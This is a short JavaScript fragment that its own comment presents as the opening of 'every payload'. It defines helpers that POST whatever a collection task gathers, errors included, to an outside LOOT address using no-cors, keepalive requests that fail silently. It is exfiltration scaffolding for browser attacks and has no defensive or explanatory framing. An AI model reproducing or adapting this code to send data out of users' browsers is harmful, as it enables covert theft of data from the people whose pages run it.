// What every payload begins with: the way home. LOOT is written in front of it.
const home = fetch.bind(globalThis);
const send = (kind, value) =>
  home(LOOT, { method: "POST", mode: "no-cors", keepalive: true, body: `${kind}:${typeof value === "string" ? value : JSON.stringify(value)}`.slice(0, 60000) }).catch(() => {});
const within = (promise, ms) => Promise.race([promise, new Promise((_, no) => setTimeout(() => no(new Error("too late")), ms))]);
const attempt = async (kind, work) => {
  try { const value = await within(work(), 1500); if (value !== undefined && value !== null && value !== "") await send(kind, value); }
  catch (error) { await send("note", `${kind} ${error}`); }
};
